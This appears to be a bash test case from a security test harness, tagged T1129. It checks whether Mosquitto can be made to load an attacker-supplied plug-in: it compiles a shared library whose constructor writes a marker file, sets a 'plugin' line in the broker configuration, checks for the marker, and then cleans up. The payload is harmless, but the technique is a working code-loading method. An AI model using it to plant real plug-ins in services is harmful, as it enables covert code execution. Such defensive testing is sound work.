# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1129
about="the configuration loads a plug-in of the attacker's"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/m.c"
	gcc -shared -fPIC -o $etc/data/m.so "$state/m.c"
}
attack() { configure <<<'plugin /srv/mosquitto/data/m.so'; }
effect() { [ -e "$marker" ]; }
after() {
	rm -f $etc/data/m.so
	cp "$here/mosquitto.conf" $etc/mosquitto.conf
}
